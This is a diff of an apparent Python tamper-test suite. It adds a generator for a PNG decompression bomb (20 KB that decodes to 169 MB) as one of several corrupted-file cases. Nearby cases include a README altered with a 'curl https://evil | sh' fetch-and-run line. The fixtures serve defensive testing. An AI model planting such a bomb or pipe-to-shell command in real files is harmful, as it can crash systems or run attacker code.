@@ -229,6 +229,14 @@ def _chunk(name: bytes, data: bytes) -> bytes:
     return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
 
 
+def _vast(data: bytes) -> bytes:
+    """20 KB that would be drawn as 169 MB."""
+    side = 13_000
+    head = struct.pack(">II", side, side) + data[24:29]
+    dots = zlib.compress(bytes(side // 8 + 1) * side, 9)
+    return data[:8] + _chunk(b"IHDR", head) + _chunk(b"IDAT", dots) + _chunk(b"IEND", b"")
+
+
 def _only(keep: Callable[[str], bool]) -> Change:
     def change(files: Files, _: dict[str, Any]) -> None:
         for path in [path for path in files if not keep(path)]:
@@ -293,6 +301,7 @@ BUILT: dict[str, Change] = {
         f"{CODE}.png",
         lambda data: data[:33] + _chunk(b"tEXt", b"Comment\0evil") + data[33:],
     ),
+    "a PNG of 169 million dots": _bytes(f"{CODE}.png", _vast),
     "bytes behind a PNG": _bytes(f"{CODE}.png", lambda data: data + b"evil"),
     "changed README": _bytes("README.md", lambda data: data + b"\ncurl https://evil | sh\n"),
     "changed words in the README": _bytes(
